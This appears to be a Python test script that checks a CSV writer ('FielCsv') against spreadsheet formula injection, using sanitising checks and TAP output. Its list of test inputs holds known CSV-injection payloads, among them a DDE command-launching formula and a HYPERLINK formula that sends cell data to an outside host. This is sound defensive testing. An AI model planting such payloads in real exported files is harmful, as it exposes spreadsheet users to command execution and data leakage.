"""What FielCsv writes, read with Python's csv module: the same table, and nothing a spreadsheet would calculate.

Usage: test-csv.py CSV_SAMPLE       prints TAP
"""
import csv
import io
import random
import subprocess
import sys
import unicodedata

FORMULA = set('=+-@\t\r\n＝＋－＠﹦﹢﹣﹫−')
SEED = 20260331

# What came up in the field, and what OWASP lists.
KNOWN = [
    '=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠A', ' =1', '\u00a0=1', '\ufeff=1', '\u200b+1',
    '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://x/?"&A1,"ok")', '";=1', 'paid;=1+1', 'paid;"=1+1', 'paid;', 'a\t@b', 'one\r\n=two', "'", "''", "'=1",
    'it\'s', ';\'', 'a;\'b', ',', '"', '""', '', ' ', '12990', '-12990', '000123', '1e5', 'café ñandú 日本 😀', 'a,b', 'a\nb', 'a\r\nb',
    'a\rb', '; ; =', ';;=', "\t'", 'plain',
]


def make(program, table):
    lines = []
    for row in table:
        for cell in row:
            if cell is None:
                lines.append('nothing')
            elif isinstance(cell, int):
                lines.append(f'number {cell}')
            else:
                lines.append('text ' + cell.encode('utf-8').hex())
        lines.append('row')
    run = subprocess.run([program], input=('\n'.join(lines) + '\n').encode('ascii'), capture_output=True, check=True)
    return run.stdout


def read(data):
    return list(csv.reader(io.StringIO(data.decode('utf-8'), newline=''), strict=True))


def restore(cell):
    """The written rule: one apostrophe goes at the start and behind every border."""
    text = []
    begins = True
    for character in cell:
        if begins and character == "'":
            begins = False
            continue
        text.append(character)
        begins = character in ';\t\r\n'
    return ''.join(text)


def calculates(cell):
    for character in cell:
        if character in FORMULA:
            return True
        if not (character.isspace() or unicodedata.category(character) in ('Cc', 'Cf')):
            return False
    return False


def expect_same(program, table):
    found = read(make(program, table))
    wanted = [['' if cell is None else cell for cell in row] for row in table]
    got = [[restore(cell) if isinstance(original, str) else int(cell) if isinstance(original, int) else cell
            for cell, original in zip(row, source)] for row, source in zip(found, table)]
    for want, have in zip(wanted, got):
        assert want == have, f'{want!r} came back as {have!r}'
    assert [len(row) for row in found] == [len(row) for row in table]


def expect_harmless(data, numbers):
    """However the lines are split, no cell calculates; only a number may begin with a sign."""
    for delimiter in (',', ';', '\t'):
        quoted = csv.reader(io.StringIO(data.decode('utf-8'), newline=''), delimiter=delimiter)
        naive = (line.split(delimiter) for line in data.decode('utf-8').replace('\r', '\n').split('\n'))
        for rows in (quoted, naive if delimiter != ',' else ()):
            for row in rows:
                for cell in row:
                    assert not calculates(cell) or cell in numbers, f'split at {delimiter!r}: {cell!r}'


def draw(chance):
    alphabet = list('=+-@\'";,\t\r\n 19aZ＝＋－＠−ñ😀\u00a0\ufeff\u200b\x01')
    return ''.join(chance.choice(alphabet) for _ in range(chance.randint(0, 8)))


def draw_table(chance):
    width = chance.randint(1, 4)
    kinds = (lambda: draw(chance), lambda: chance.randint(-2**63, 2**63 - 1), lambda: None, lambda: chance.choice(KNOWN))
    # A row of one empty cell is an empty line, which not every reader takes for a row.
    return [[0 if width == 1 else 'x'] + [chance.choice(kinds)() for _ in range(width - 1)] for _ in range(40)]


def test_known(program):
    expect_same(program, [[text, 'next'] for text in KNOWN])


def test_known_harmless(program):
    expect_harmless(make(program, [['x', text, 'y'] for text in KNOWN]), set())


def test_first_cell_harmless(program):
    expect_harmless(make(program, [[text] for text in KNOWN]), set())


def test_any_table(program):
    chance = random.Random(SEED)
    for _ in range(150):
        table = draw_table(chance)
        expect_same(program, table)
        expect_harmless(make(program, table), {str(cell) for row in table for cell in row if isinstance(cell, int)})


def test_form(program):
    data = make(program, [['a', -5, None, '', 'say "so"']])
    assert data == b'"a",-5,,"","say ""so"""\r\n', data


def test_numbers_bare(program):
    rows = read(make(program, [[-2**63, 2**63 - 1, 0]]))
    assert rows == [['-9223372036854775808', '9223372036854775807', '0']], rows


def test_plain_untouched(program):
    for text in ('12990', '000123', 'it\'s', 'Café', 'a-b', '2026-03-31T14:00:00-03:00'):
        rows = read(make(program, [[text, 'x']]))
        assert rows == [[text, 'x']], rows


def main():
    tests = [(name[5:].replace('_', ' '), test) for name, test in globals().items() if name.startswith('test_')]
    print(f'1..{len(tests)}')
    failed = False
    for number, (name, test) in enumerate(tests, 1):
        try:
            test(sys.argv[1])
            print(f'ok {number} {name}')
        except (AssertionError, csv.Error, ValueError) as error:
            failed = True
            print(f'not ok {number} {name}')
            print('# ' + str(error).replace('\n', '\n# '))
    return 1 if failed else 0


sys.exit(main())
